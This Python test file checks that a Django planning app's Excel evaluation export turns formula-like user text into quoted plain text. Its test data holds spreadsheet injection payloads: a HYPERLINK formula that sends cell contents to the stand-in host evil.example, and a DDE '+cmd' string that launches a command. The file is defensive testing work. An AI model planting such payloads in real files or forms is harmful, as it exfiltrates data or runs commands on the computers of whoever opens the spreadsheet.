"""Text typed by users (programme names, evidence, indicator values) that looks like a formula reaches the
evaluation workbook as quoted text, never as a live formula."""

from __future__ import annotations

import io

import openpyxl
from django.utils import translation

from petakan.lib.cells import is_dangerous
from petakan.monitoring import evaluation
from petakan.monitoring.models import MeasureRealisation, Realisation
from petakan.planning.models import Period, Programme, ProgrammeIndicator

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def test_formula_looking_text_is_quoted_in_every_sheet(kendal) -> None:  # type: ignore[no-untyped-def]
    period = Period.objects.create(name="RPJMD Uji", start_year=2024, end_year=2026, is_current=True)
    p = Programme.objects.create(
        period=period, name=EVIL, dimension="gov", horizon="short", start_year=2025, end_year=2025, opd="@OPD"
    )
    m = ProgrammeIndicator.objects.create(programme=p, kind="output", name="+cmd|' /C calc'!A0", target="-5")
    r = Realisation.objects.create(programme=p, year=2025, status="running", evidence_text="-2+3", evidence_link="")
    MeasureRealisation.objects.create(realisation=r, measure=m, target="-5", value="=1+1")
    with translation.override("id"):
        wb = openpyxl.load_workbook(io.BytesIO(evaluation.build(period, 2025, "xlsx")))
    texts = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    assert not is_dangerous(cell.value), (ws.title, cell.coordinate, cell.value)
                    texts.append(cell.value)
    for dangerous in (EVIL, "@OPD", "+cmd|' /C calc'!A0", "-2+3", "=1+1", "-5"):
        assert "'" + dangerous in texts, dangerous
